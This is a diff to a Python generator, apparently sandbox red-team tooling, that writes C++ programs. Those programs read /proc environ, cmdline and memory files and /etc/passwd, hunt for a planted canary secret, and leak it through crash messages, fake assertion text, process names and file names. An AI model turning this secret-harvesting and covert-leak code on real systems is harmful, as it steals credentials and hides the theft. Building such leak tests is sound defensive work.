@@ -51,12 +51,9 @@ WORDS = [
 ]
 
 # Where something secret may be: other processes, and what this one was given.
-PLACES = [
-    f"/proc/{who}/{what}"
-    for who in ("self", "1", "2", "3", "self/task/1")
-    for what in ("environ", "cmdline", "maps", "syscall", "mem", "comm", "fd/3", "cwd", "root")
-]
-PLACES += ["/etc/passwd", "/proc/version", "/tmp", "/dev/stdin", "/dev/fd/9", "."]
+PLACES = [f"/proc/{who}/{what}" for who in ("self", "1", "2") for what in ("environ", "cmdline")]
+PLACES += [f"/proc/self/{what}" for what in ("maps", "syscall", "mem", "fd/3", "cwd", "comm")]
+PLACES += ["/proc/1/environ", "/proc/1/cmdline", "/etc/passwd", "/proc/version", "/tmp", "."]
 
 FOR_GCC = "#ifdef __clang__\n#error for g++ alone\n#endif\n"  # what clang refuses, g++ is given
 HEADERS = """
@@ -262,7 +259,7 @@ def asking(rng: Random, _: list[str]) -> Piece:
 
 
 def stolen(rng: Random, places: list[str], name: str) -> str:
-    """A function that looks at some places, and keeps what comes after a secret's name."""
+    """A function that looks at some places, for a secret's name (attack_run.py) first of all."""
     some = ", ".join(quoted(place) for place in rng.sample(places, min(6, len(places))))
     how = rng.choice(
         (
@@ -279,8 +276,10 @@ def stolen(rng: Random, places: list[str], name: str) -> str:
     char text[4000];
     const long n = fd < 0 ? 0 : syscall(SYS_read, fd, text, sizeof text);
     if (n > 0) all.append(text, static_cast<std::size_t>(n));
-    const auto at = all.find("BOUNCE_CANARY=");
-    if (at != std::string::npos) return all.substr(at + 14, 40);
+  }}
+  for (const char* name : {{ "BOUNCE_CANARY=", "/tmp-" }}) {{
+    const auto at = all.find(name);
+    if (at != std::string::npos) return all.substr(at, 60);
   }}
   return all.empty() ? "nothing" : all;
 }}
@@ -301,8 +300,11 @@ def stealing(rng: Random, places: list[str]) -> Piece:
             f"{say} [&]() noexcept {{ throw std::runtime_error(said); }}();",
             f"{say} prctl(PR_SET_NAME, said.c_str());",
             f"{say} open(said.c_str(), O_CREAT | O_WRONLY, 0600);",
-            f'const std::string said = "\\ncause of the crash: found: " + {theft}() + "\\n"; '
-            f"(void)!write(2, said.data(), said.size()); {ending(rng)}",
+            *[
+                f'const std::string said = "\\ncause of the crash: found: " + {theft}() + "\\n"; '
+                f"(void)!write(2, said.data(), said.size()); {crash}"
+                for crash in ("std::abort();", "__builtin_trap();", ending(rng))
+            ],
             f'const std::string said = "x: /a/b.h:1: f: Assertion `" + {theft}() + "\' failed.\\n"; '
             "(void)!write(2, said.data(), said.size()); std::abort();",
         ]
